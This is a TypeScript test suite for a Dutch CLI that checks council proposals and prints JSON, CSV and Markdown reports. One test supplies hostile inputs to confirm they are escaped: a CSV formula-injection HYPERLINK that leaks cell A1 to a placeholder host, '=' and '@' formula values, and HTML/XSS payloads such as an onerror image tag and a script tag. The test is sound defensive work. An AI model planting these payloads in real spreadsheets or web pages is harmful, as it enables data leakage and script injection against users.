import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { copyFileSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, describe, test } from "node:test";
import { CRITERIUM_IDS, STATUSES } from "../../src/lib/raadsvoorstel/types.ts";

const ROOT = join(import.meta.dirname, "..", "..");
const FIXTURES = join(ROOT, "tests", "fixtures", "raadsvoorstellen");
const CLI = join(ROOT, "scripts", "toets.ts");

function run(...args: string[]): { code: number | null; stdout: string; stderr: string } {
  const r = spawnSync(process.execPath, [CLI, ...args], { cwd: ROOT, encoding: "utf8" });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

interface JsonResult {
  file: string;
  criteria: { id: string; status: string; evidence: { start: number; end: number; text: string }[] }[];
  toetsstenen: { id: string; status: string }[];
}

const tmp = mkdtempSync(join(tmpdir(), "raadsvoorstel-cli-"));
after(() => rmSync(tmp, { recursive: true, force: true }));

describe("scripts/toets.ts", () => {
  test("--json on the fixture folder: an array with one object per proposal", () => {
    const r = run(FIXTURES, "--json");
    assert.equal(r.code, 0, r.stderr);
    const list = JSON.parse(r.stdout) as JsonResult[];
    const expected = readdirSync(FIXTURES).filter((f) => /\.(txt|docx|pdf)$/u.test(f));
    assert.equal(list.length, expected.length);
    for (const item of list) {
      assert.deepEqual(
        item.criteria.map((c) => c.id),
        [...CRITERIUM_IDS],
      );
      for (const c of item.criteria) {
        assert.ok((STATUSES as readonly string[]).includes(c.status));
        for (const e of c.evidence) assert.deepEqual(Object.keys(e), ["start", "end", "text"]);
      }
      assert.deepEqual(item.toetsstenen, []);
    }
  });

  test("--json on one file: one object whose evidence points into the file", () => {
    const file = join(FIXTURES, "06-rietvoorde-dagbesteding.txt");
    const r = run(file, "--json");
    assert.equal(r.code, 0, r.stderr);
    const item = JSON.parse(r.stdout) as JsonResult;
    assert.equal(Array.isArray(item), false);
    assert.equal(item.file, file);
    const text = readFileSync(file, "utf8");
    const evidence = item.criteria.flatMap((c) => c.evidence);
    assert.ok(evidence.length > 5);
    for (const e of evidence) assert.equal(text.slice(e.start, e.end), e.text);
  });

  test("an empty file: Dutch message on stderr, exit 1, the other files still reported", () => {
    const dir = mkdtempSync(join(tmp, "map-"));
    writeFileSync(join(dir, "a-leeg.txt"), "");
    writeFileSync(join(dir, "b-kapot.docx"), "dit is geen word");
    copyFileSync(join(FIXTURES, "08-hazelaarsveen-warme-maaltijd.txt"), join(dir, "c-goed.txt"));
    const r = run(dir, "--json");
    assert.equal(r.code, 1);
    assert.match(r.stderr, /Fout in .*a-leeg\.txt: Dit document is leeg/u);
    assert.match(
      r.stderr,
      /Fout in .*b-kapot\.docx: Dit bestand kon niet worden gelezen: het lijkt geen geldig Word-document\./u,
    );
    assert.match(r.stderr, /2 van de 3 bestanden konden niet worden gelezen/u);
    const list = JSON.parse(r.stdout) as JsonResult[];
    assert.deepEqual(
      list.map((x) => x.file.endsWith("c-goed.txt")),
      [true],
    );
  });

  test("default output for a folder: the APK table with totals per criterion", () => {
    const r = run(FIXTURES);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /^APK voor raadsvoorstellen: \d+ voorstellen/u);
    const totals = r.stdout.split("\n").filter((l) => /^[●◐○] (aanwezig|deels|afwezig)/u.test(l));
    assert.equal(totals.length, 3);
    const count = readdirSync(FIXTURES).filter((f) => /\.(txt|docx|pdf)$/u.test(f)).length;
    const sums = CRITERIUM_IDS.map((_, i) => totals.reduce((n, l) => n + Number(l.split(/\s+/u)[2 + i]), 0));
    assert.deepEqual(
      sums,
      CRITERIUM_IDS.map(() => count),
    );
  });

  test("--csv uses ';', a BOM for Excel and one row per file", () => {
    const r = run(FIXTURES, "--csv");
    assert.equal(r.code, 0, r.stderr);
    assert.ok(r.stdout.startsWith("\uFEFF"));
    const rows = r.stdout.slice(1).trimEnd().split("\r\n");
    assert.equal(rows[0], "bestand;titel;datum;S;A;B;C;D;E;F;G;waarschuwing");
    assert.match(
      rows[1] ?? "",
      /^01-heuvelrade-vroegsignalering\.txt;Vroegsignalering van schulden 2026-2029;2026-04-14;aanwezig;/u,
    );
    // No fixture proposal is taken for a verordening: the last column stays empty.
    assert.ok(rows.slice(1).every((l) => l.endsWith(";")), "geen waarschuwing bij de raadsvoorstellen");
  });

  test("a verordening gets the warning in the table and the CSV", () => {
    const file = new URL("../fixtures/geen-voorstel/verordening-veldzicht.txt", import.meta.url).pathname;
    const warning = "Dit lijkt geen raadsvoorstel maar een verordening; de uitslag zegt daarom weinig.";
    assert.ok(run(file).stdout.includes(`Let op: ${warning}`));
    assert.ok(run(file, "--csv").stdout.includes(`"${warning}"`));
  });

  test("--md on one file: a memo with the criteria table and questions", () => {
    const r = run(join(FIXTURES, "14-kreekhaven-sportakkoord.txt"), "--md");
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /^# Toets raadsvoorstel: Lokaal sportakkoord Kreekhaven in beweging/u);
    assert.match(
      r.stdout,
      /\| D \| Alternatieven \| ◐ deels \| Kop 'Alternatieven' gevonden, maar er staat alleen 'Er zijn geen alternatieven\.'/u,
    );
    assert.match(r.stdout, /## Vragen voor het college\n\n1\. /u);
  });

  test("--visie adds the toetsstenen; an invalid visie is refused in Dutch", () => {
    const good = join(tmp, "werkboek.raadskompas.json");
    writeFileSync(
      good,
      JSON.stringify({
        format: "raadskompas-werkboek",
        version: 1,
        id: "wb-cli",
        name: "Fractie",
        createdAt: "2026-01-01T10:00:00.000Z",
        updatedAt: "2026-01-01T10:00:00.000Z",
        visie: {
          waarden: [{ id: "w1", name: "Eenzaamheid tegengaan", meaning: "niemand staat er alleen voor" }],
          resultaten: [
            { id: "r1", doelgroep: "ouderen", verandering: "voelt zich minder eenzaam", target: 40, year: 2030 },
          ],
        },
      }),
    );
    const r = run(join(FIXTURES, "16-brakelaar-eenzaamheid.txt"), "--visie", good, "--json");
    assert.equal(r.code, 0, r.stderr);
    const item = JSON.parse(r.stdout) as JsonResult;
    assert.deepEqual(
      item.toetsstenen.map((t) => [t.id, t.status]),
      [
        ["w1", "aanwezig"],
        ["r1", "aanwezig"],
      ],
    );

    const bad = join(tmp, "kapot.json");
    const base = { format: "raadskompas-werkboek", version: 2, id: "x", name: "x", createdAt: "2026-01-01T10:00:00.000Z", updatedAt: "2026-01-01T10:00:00.000Z" };
    writeFileSync(bad, JSON.stringify({ ...base, visie: { waarden: [{ id: "w", name: 5 }] } }));
    const r2 = run(FIXTURES, "--visie", bad);
    assert.equal(r2.code, 2);
    assert.match(r2.stderr, /Het werkboek .*kapot\.json klopt niet/u);
    assert.match(r2.stderr, /visie › waarden › nr\. 1 › naam/u);

    writeFileSync(bad, JSON.stringify({ versie: 1 }));
    const r3 = run(FIXTURES, "--visie", bad);
    assert.equal(r3.code, 2);
    assert.match(r3.stderr, /geen Raadskompas-werkboek/u);
  });

  test("--csv and --md neutralise hostile titles, labels and file names", () => {
    const dir = mkdtempSync(join(tmp, "hostile-"));
    const title = '=HYPERLINK("http://x.test/?"&A1,"klik") <img src=x onerror=alert(1)><script>x</script>';
    writeFileSync(join(dir, "=1+2.txt"), `${title}\n\nRaadsvoorstel\n\nHet college stelt voor om geld uit te geven aan +zorg en -wachtlijsten.\n`);
    const visie = join(dir, "visie.json");
    writeFileSync(
      visie,
      JSON.stringify({
        format: "raadskompas-werkboek", version: 1, id: "wb", name: "x",
        createdAt: "2026-01-01T10:00:00.000Z", updatedAt: "2026-01-01T10:00:00.000Z",
        visie: { waarden: [{ id: "w1", name: "@SUM(1+1) <b onmouseover=x>zorg</b>", meaning: "" }] },
      }),
    );
    const c = run(dir, "--visie", visie, "--csv");
    assert.equal(c.code, 0, c.stderr);
    const cells = c.stdout.slice(1).split("\r\n").flatMap((row) => row.match(/("(?:[^"]|"")*"|[^;]*)(?:;|$)/gu) ?? []);
    for (const raw of cells) {
      const cell = raw.replace(/;$/u, "").replace(/^"(.*)"$/su, "$1");
      assert.doesNotMatch(cell, /^\s*[=+\-@]/u, `formula cell: ${cell}`);
    }
    assert.match(c.stdout, /'=1\+2\.txt/u);
    assert.match(c.stdout, /'@SUM/u);

    const m = run(join(dir, "=1+2.txt"), "--visie", visie, "--md");
    assert.equal(m.code, 0, m.stderr);
    assert.doesNotMatch(m.stdout, /(?<!\\)<(img|script|b)\b/u, "raw HTML must be escaped");
    assert.match(m.stdout, /\\<img src=x onerror=alert\(1\)\\>/u);
  });

  test("--help is Dutch; no input is a usage error", () => {
    const help = run("--help");
    assert.equal(help.code, 0);
    assert.match(help.stdout, /^Raadsvoorstel-toets/u);
    assert.match(help.stdout, /--json {4}JSON\. Eén bestand: één object/u);
    const none = run();
    assert.equal(none.code, 2);
    assert.match(none.stderr, /Geef een bestand of map op/u);
  });
});
